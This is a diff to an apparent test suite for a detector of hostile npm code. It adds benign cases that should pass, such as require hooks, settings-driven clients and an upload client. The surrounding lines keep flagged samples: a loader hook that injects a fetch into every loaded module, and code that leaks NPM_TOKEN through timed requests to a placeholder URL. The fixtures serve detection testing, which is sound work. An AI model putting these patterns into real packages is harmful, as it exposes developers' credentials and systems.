@@ -144,6 +144,25 @@ describeVerdicts("EXE-10", {
       registerHooks({ load(u, c, next) { const r = next(u, c); r.source = r.source + ";fetch('${url}', { method: 'POST' })"; return r; } });`),
   },
   passes: {
+    "a hook that asks a table of what somebody wants to see": `
+      const Module = require("module");
+      const wanted = Object.create(null);
+      let isPatched = false;
+      module.exports = function Hook(names, seen) {
+        for (const name of names) (wanted[name] ??= []).push(seen);
+        if (isPatched) return;
+        isPatched = true;
+        const original = Module.prototype.require;
+        Module.prototype.require = function (id) {
+          const made = original.apply(this, arguments);
+          const isOthers = Module._resolveFilename(id, this).split("/").includes("node_modules");
+          return (isOthers ? wanted[id] ?? [] : []).reduce((all, see) => see(all, id) ?? all, made);
+        };
+      };
+      module.exports(["http"], (made) => made);`,
+    "a mark that it was loaded already": `
+      const api = { name: "sample", about: process.argv0 === "sample" };
+      if (!require.cache.__SAMPLE_CACHE) require.cache.__SAMPLE_CACHE = module.exports = api;`,
     "a hook that translates": `
       const babel = require("@babel/core");
       exports.register = () => require("pirates").addHook((code, f) => babel.transformSync(code, { filename: f }).code + "\\n//# sourceURL=" + f);`,
@@ -162,6 +181,19 @@ describeVerdicts("EXF-15", {
       exports.start = async () => { for (const x of Buffer.from(process.env.NPM_TOKEN || "")) { await sleep(x * 100); await fetch("${url}"); } };`,
   },
   passes: {
+    "how long a client waits, among much else that it was told": `
+      const all = (given) => ({ ...given, key: given.key ?? process.env.SERVICE_API_KEY, host: require("os").hostname() });
+      exports.client = (given) => {
+        const options = all(given);
+        setInterval(() => fetch("${url}", { method: "POST", body: "{}" }), options.every ?? 1000).unref();
+      };`,
+    "how long a request may take, out of a file of settings": `
+      const settings = require("dotenv").parse(require("fs").readFileSync(".env"));
+      exports.get = () => {
+        const stop = new AbortController();
+        setTimeout(() => stop.abort(), settings.wait);
+        return fetch("${url}", { signal: stop.signal });
+      };`,
     "a time that is set": `setInterval(() => fetch("${url}").catch(() => {}), Number(process.env.POLL_INTERVAL || 1000)).unref();`,
     "a time that a service says": `
       const key = process.env.SERVICE_API_KEY;
@@ -200,6 +232,15 @@ describeVerdicts("EXF-16", {
     "a request that is tried again": module(
       `export async function get(input, init = {}) { const r = new Request(input, init); for (let i = 0; i < 3; i++) { try { return await fetch(r.clone()); } catch {} } }`,
     ),
+    "a client's token, where the caller's file goes elsewhere": `
+      export class Client {
+        constructor(options) { this.token = options.token; }
+        async upload(file) {
+          const { to } = await (await fetch("${url}", { method: "POST", headers: { authorization: this.token } })).json();
+          return fetch(to, { method: "PUT", body: file });
+        }
+        send = (address, body) => fetch(address, { method: "POST", body });
+      }`,
     "how many there were": `
       let count = 0;
       module.exports = (input, init) => {
